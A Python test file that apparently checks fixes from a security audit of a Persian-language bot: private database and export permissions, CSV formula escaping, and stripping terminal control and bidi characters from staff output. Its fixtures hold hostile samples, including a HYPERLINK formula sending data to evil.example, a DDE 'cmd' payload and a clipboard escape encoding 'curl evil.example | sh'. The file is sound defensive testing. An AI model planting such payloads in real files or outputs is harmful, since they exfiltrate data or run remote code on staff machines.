"""The security audit ("Personal data, delivery guarantees and hostile staff-side input"), one section per
finding: each test reproduces the attack or the fault as it was found, and checks the fix.

Staff commands run in-process through `bot.cli.main` (the same code as `python -m bot`, without the cost of
a process per call); what a person would see is read from stdout and stderr.
"""

from __future__ import annotations

import asyncio
import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot import cli
from bot.dialogue.staff import unanswered_reply
from bot.reply import B_CLOSE, B_OPEN
from storage.sqlite import SqliteStore

ROOT = Path(__file__).resolve().parent.parent
KNOWLEDGE = ROOT / "knowledge"
KARA = "13011031101"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def database_files(folder: Path, mode_to: int | None = None) -> dict[str, int]:
    """The modes of the database file and its -wal / -shm; with `mode_to`, set to that first."""
    files = sorted(folder.glob("bot.db*"))
    if mode_to is not None:
        for f in files:
            f.chmod(mode_to)
    return {f.name: mode(f) for f in files}


@pytest.fixture
def loose_umask() -> Iterator[None]:
    """The umask most machines start with (0o022): new files readable by every local user."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def run_cli(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], database: Path,
            *args: str) -> tuple[int, str, str]:
    """`python -m bot ARGS` in this process, on `database`; returns (exit code, stdout, stderr). The umask
    the command sets is put back afterwards."""
    for name in list(os.environ):
        if name.startswith("BOT_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("BOT_DATABASE", str(database))
    monkeypatch.chdir(database.parent)  # no .env of the developer's
    capsys.readouterr()
    old = os.umask(0o022)
    os.umask(old)
    try:
        code = cli.main(list(args))
    finally:
        os.umask(old)
    out, err = capsys.readouterr()
    return code, out, err


# --------------------------------------------------------------------------------------------------
# 1. Personal data readable by any local user
# --------------------------------------------------------------------------------------------------


async def test_the_database_its_folder_and_its_wal_files_are_private(tmp_path: Path, loose_umask: None) -> None:
    path = tmp_path / "data" / "nested" / "bot.db"
    db = await SqliteStore.open(path)
    try:
        await db.drafts.save("telegram", 1, KARA, 0, {"national_code": "4271302481"})
        files = [path, path.with_name("bot.db-wal"), path.with_name("bot.db-shm")]
        assert all(f.exists() for f in files)
        assert {str(f.name): mode(f) for f in files} == {f.name: 0o600 for f in files}
        assert mode(tmp_path / "data") == mode(tmp_path / "data" / "nested") == 0o700
    finally:
        await db.close()


async def test_a_database_left_readable_by_an_older_version_is_made_private_at_open(
    tmp_path: Path, loose_umask: None
) -> None:
    path = tmp_path / "bot.db"
    async with await SqliteStore.open(path):
        pass
    assert set(database_files(tmp_path, 0o644).values()) == {0o644}
    async with await SqliteStore.open(path) as db:
        await db.log.add("telegram", 1, 1, "in", "سلام")
        found = database_files(tmp_path)
        assert len(found) == 3 and set(found.values()) == {0o600}


def test_an_export_is_private_even_over_an_older_readable_file(
    tmp_path: Path, loose_umask: None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database = tmp_path / "bot.db"

    async def create() -> None:
        async with await SqliteStore.open(database) as db:
            await db.requests.create(KARA, "telegram", 1, 1, "4271302481", "09357246813", {"full_name": "مریم احمدی"})

    asyncio.run(create())
    new = tmp_path / "exports" / "requests.csv"
    old = tmp_path / "old.csv"
    old.write_text("x", encoding="utf-8")
    old.chmod(0o644)
    for target in (new, old):
        code, _, err = run_cli(monkeypatch, capsys, database, "export", "requests", "--out", str(target),
                               "--with-personal-data")
        assert code == 0, err
        assert mode(target) == 0o600
    assert mode(tmp_path / "exports") == 0o700


@pytest.mark.parametrize("command", [["stats"], ["requests", "list"], ["logs"]])
def test_every_command_on_the_database_runs_with_a_private_umask(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    database = tmp_path / "bot.db"

    async def create() -> None:
        async with await SqliteStore.open(database):
            pass

    asyncio.run(create())
    seen: list[int] = []
    real_main = cli.cmd_staff

    async def spy(args, settings):  # the umask while the command works
        current = os.umask(0)
        os.umask(current)
        seen.append(current)
        return await real_main(args, settings)

    monkeypatch.setattr(cli, "cmd_staff", spy)
    code, _, err = run_cli(monkeypatch, capsys, database, *command)
    assert code == 0, err
    assert seen == [0o077]


# --------------------------------------------------------------------------------------------------
# 2. Spreadsheet formula injection / 6. Terminal control sequences reach staff
# --------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"جزئیات")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\t=1+1", "\r=1+1"]
ESCAPES = {
    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "clear": "\x1b[2J\x1b[H",
    "colour": "\x1b[31mقرمز\x1b[0m",
    "c1-csi": "\x9b2J",
    "bidi-override": "\u202eabc\u202c",
    "bidi-isolate": "\u2066abc\u2069",
    "bell-backspace": "a\x07\x08b",
}
FORBIDDEN = {chr(c) for c in range(0x20) if chr(c) != "\n"} | {chr(c) for c in range(0x7f, 0xa0)} | {
    chr(c) for c in (*range(0x202a, 0x202f), *range(0x2066, 0x206a), 0x200f, 0x061c, 0x200b, 0xfeff)}


def hostile_database(tmp_path: Path) -> tuple[Path, str]:
    """A database whose citizen text is hostile: formulas, escape sequences, bidi overrides; returns it and
    the tracking code of a request whose answers and staff note are hostile too."""
    database = tmp_path / "bot.db"

    async def seed() -> str:
        async with await SqliteStore.open(database) as db:
            for text in (*FORMULAS, *ESCAPES.values(), "می‌خواهم ثبت‌نام کنم"):
                await db.log.add("telegram", 7, 7, "in", text, answered=False, normalized=text)
            answers = {"full_name": FORMULAS[0], "province": ESCAPES["clipboard"] + ESCAPES["bidi-override"],
                       "note": "-2+3"}
            created = await db.requests.create(KARA, "telegram", 7, 7, None, None, answers)
            await db.requests.set_status(created.tracking_code, "under_review", note=ESCAPES["clear"] + "=1+1")
            return created.tracking_code

    return database, asyncio.run(seed())


def test_no_export_cell_starts_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database, _ = hostile_database(tmp_path)
    cells: list[str] = []
    for what, *extra in (("logs",), ("requests",), ("requests", "--with-personal-data")):
        out = tmp_path / f"{what}{len(extra)}.csv"
        code, _, err = run_cli(monkeypatch, capsys, database, "export", what, "--out", str(out), *extra)
        assert code == 0, err
        with out.open(encoding="utf-8-sig", newline="") as f:
            rows = list(csv.reader(f))
        cells += [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
            or cell.lstrip()[:1] in ("=", "+", "-", "@")]
    assert live == []
    assert "'-2+3" in cells and "'@SUM(1+1)" in cells  # still there, as text
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)


def test_staff_output_carries_no_control_or_bidi_characters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    database, code = hostile_database(tmp_path)
    outputs = {}
    for args in (["logs"], ["logs", "--unanswered"], ["stats"], ["requests", "list"], ["requests", "show", code]):
        status, out, err = run_cli(monkeypatch, capsys, database, *args)
        assert status == 0, err
        outputs[" ".join(args[:2])] = out + err
    export = tmp_path / "logs.csv"
    assert run_cli(monkeypatch, capsys, database, "export", "logs", "--out", str(export))[0] == 0
    outputs["export"] = export.read_text(encoding="utf-8-sig").replace("\r\n", "\n")
    for name, text in outputs.items():
        assert sorted({f"U+{ord(ch):04X}" for ch in text if ch in FORBIDDEN}) == [], name
    assert "می‌خواهم ثبت‌نام کنم" in outputs["logs"]  # ZWNJ kept: Persian needs it
    assert "قرمز" in outputs["logs"] and "abc" in outputs["logs"]  # the words stay, the sequences go
    assert "قرمز" in outputs["stats"]


async def test_unanswered_questions_reach_the_admin_chat_without_control_or_bidi_characters(tmp_path: Path) -> None:
    async with await SqliteStore.open(tmp_path / "bot.db") as db:
        for text in ESCAPES.values():
            await db.log.add("telegram", 7, 7, "in", text, answered=False, normalized=text)
        reply = await unanswered_reply(db)
    assert sorted({f"U+{ord(ch):04X}" for ch in reply.text if ch in FORBIDDEN - {B_OPEN, B_CLOSE}}) == []
